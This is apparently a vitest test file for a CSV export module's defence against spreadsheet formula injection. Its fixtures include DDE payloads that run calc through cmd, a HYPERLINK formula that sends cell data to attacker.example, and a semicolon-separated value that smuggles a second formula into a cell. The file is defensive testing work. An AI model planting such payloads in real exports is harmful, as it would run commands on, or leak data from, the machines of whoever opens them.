// Exported CSV cells that a spreadsheet would run as a formula (= + - @ tab CR at the start) are
// neutralized: cell by cell, and in a real report row whose error text came from the service.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../src/core/csv-safe.ts';
import { newRunId } from '../../src/outcomes/runs.ts';
import { REPORT_COLUMNS, writeReport } from '../../src/ops/views/report.ts';
import { startHarness, type Harness } from '../helpers/pipeline.ts';

let h: Harness;
beforeAll(async () => {
  h = await startHarness({ tag: 'chaos-csv', sim: { learners: 10 } });
});
afterAll(async () => {
  await h?.close();
});

describe('CSV formula injection', () => {
  it('prefixes every dangerous first character with a quote and quotes what needs it', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+SUM(A1)')).toBe("'+SUM(A1)");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@cmd')).toBe("'@cmd");
    // A tab is a separator too (pasted text, tab locales): the cell is quoted as well as neutralized.
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('\r=x')).toBe('"\'\r=x"');
    expect(csvCell('=HYPERLINK("http://evil","a,b")')).toBe('"\'=HYPERLINK(""http://evil"",""a,b"")"');
    // Plain text, numbers we write and empty cells stay as they are.
    expect(csvCell('already in org')).toBe('already in org');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(404)).toBe('404');
    expect(csvCell(null)).toBe('');
    expect(csvLine(['=x', 1, '@y'])).toBe("'=x,1,'@y\n");
  });

  it('quotes a cell holding the separator of any common locale, and sees a formula after leading spaces', () => {
    // Unquoted, Excel in a `;` locale splits this into `x` and a formula that runs calc.
    expect(csvCell("x;=cmd|' /C calc'!A0")).toBe(`"x;=cmd|' /C calc'!A0"`);
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    // Leading spaces do not hide a formula from every spreadsheet.
    expect(csvCell('  =1+1')).toBe("'  =1+1");
    expect(csvCell(' @SUM(A1)')).toBe("' @SUM(A1)");
    expect(csvCell('\u00a0+1')).toBe("'\u00a0+1");
    expect(csvCell(' ;=1+1')).toBe(`" ;=1+1"`);
    // Text with a formula character later on, and numbers we write, stay as they are.
    expect(csvCell('a = b')).toBe('a = b');
    expect(csvCell(-5)).toBe('-5');
    expect(csvLine(['x;=1', 'ok'])).toBe('"x;=1",ok\n');
  });

  it('a report row of a learner whose error text starts with = or @ is safe to open', async () => {
    const runId = newRunId();
    await h.ctx.store.markQueued([
      { org: 'acme', learnerId: 7, runId, source: '=cmd|"/c calc"!A1', force: false },
    ]);
    await h.ctx.store.recordAttempt('acme', 7, runId, {
      bucket: 'invalid-request',
      code: 'invalid-request',
      status: 400,
      error: '@SUM(1+1)*cmd|"/C calc"!A0',
      message: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
      durationMs: 12,
      tokenId: 'abc123',
      countsAsAttempt: true,
    });
    const out = join(h.dir, 'report.csv');
    expect(await writeReport(h.ctx.store, { orgs: ['acme'], runId }, { format: 'csv', out })).toBe(1);
    const [header, row] = readFileSync(out, 'utf8').trim().split('\n');
    expect(header).toBe(REPORT_COLUMNS.join(','));
    // A minimal CSV split that honours quotes, to look at each cell as a spreadsheet would.
    const cells = [...(row ?? '').matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)]
      .map((m) => m[1] ?? '')
      .slice(0, REPORT_COLUMNS.length)
      .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
    const cell = (name: (typeof REPORT_COLUMNS)[number]) => cells[REPORT_COLUMNS.indexOf(name)] ?? '';
    expect(cell('learnerId')).toBe('7');
    expect(cell('error')).toBe('\'@SUM(1+1)*cmd|"/C calc"!A0');
    expect(cell('message')).toBe('\'=HYPERLINK("http://attacker.example/?leak="&A1,"click")');
    expect(cell('source')).toBe('\'=cmd|"/c calc"!A1');
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });
});
